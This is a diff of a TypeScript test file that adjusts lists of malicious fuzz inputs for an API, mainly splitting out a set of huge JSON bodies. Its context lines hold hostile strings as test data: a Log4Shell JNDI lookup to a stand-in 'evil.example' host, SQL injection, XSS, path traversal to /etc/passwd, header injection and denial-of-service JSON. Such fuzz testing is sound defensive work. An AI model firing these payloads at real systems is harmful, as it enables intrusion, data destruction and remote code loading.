@@ -19,7 +19,6 @@ const nastyTexts = [
   "\u0000",
   "\u0001\u001f\u007f\u0085",
   "\ufffd",
-  "\ufeff",
   "\u202eabc",
   "\r\nSet-Cookie: x=1",
   "x".repeat(10_000),
@@ -29,36 +28,26 @@ const nastyTexts = [
   "%00",
   "%ED%A0%80",
   "../../etc/passwd",
-  "//evil.example",
   "'; DROP TABLE catalogue; --",
   "<script>alert(1)</script>",
   `\${jndi:ldap://evil.example}`,
   "__proto__",
   "constructor",
-  "toString",
-  "hasOwnProperty",
-  "NaN",
   "Infinity",
   "-0",
   "-1",
   "1e309",
-  "0x10",
   "9".repeat(400),
   "null",
-  "undefined",
-  "[]",
   "{}",
   "true",
   "#",
   "CASE_STUDY#x",
-  "DRAFT",
   "*",
   '"',
   'W/"',
-  "a,b,c",
   ";=;=",
   unknownId,
-  unknownId.toLowerCase(),
   "ma-one",
 ];
 
@@ -108,6 +97,9 @@ const nastyJson = [
   '{"a":{"b":{"c":{"d":1}}}}',
   '{"toString":"x","valueOf":"y"}',
   `"${"x".repeat(50_000)}"`,
+];
+
+const hugeJson = [
   `[${Array(5_000).fill("0").join(",")}]`,
   `{${Array.from({ length: 5_000 }, (_, index) => `"k${index}":0`).join(",")}}`,
   `${"[".repeat(50_000)}${"]".repeat(50_000)}`,
@@ -137,6 +129,7 @@ const nastyBodies: (string | Uint8Array)[] = [
   new Uint8Array(gzipSync("{}")),
   new Uint8Array(5 * 1024 * 1024),
   ...nastyJson,
+  ...hugeJson,
 ];
 
 const nastyQueries = [
